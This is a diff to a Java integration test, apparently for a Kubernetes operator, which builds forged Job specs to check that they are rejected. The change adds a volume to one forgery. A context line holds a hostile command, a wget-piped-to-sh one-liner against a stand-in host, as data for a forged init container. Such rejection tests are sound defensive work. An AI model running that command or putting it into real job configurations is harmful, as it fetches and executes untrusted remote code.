@@ -151,7 +151,10 @@ class OperatorJobForgeryIT {
         j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
     expected.put("init running a shell", "running cp");
     forgeries.put("a plan opening the image", forged(JobSamples.planFromImage(),
-        j -> pod(j).setInitContainers(pod(JobSamples.runFromImage()).getInitContainers())));
+        j -> {
+          pod(j).setInitContainers(pod(JobSamples.runFromImage()).getInitContainers());
+          pod(j).getVolumes().add(pod(JobSamples.runFromImage()).getVolumes().get(0));
+        }));
     expected.put("a plan opening the image", "a plan Job (the runner's plan program) has no init container");
 
     List<String> accepted = new ArrayList<>();
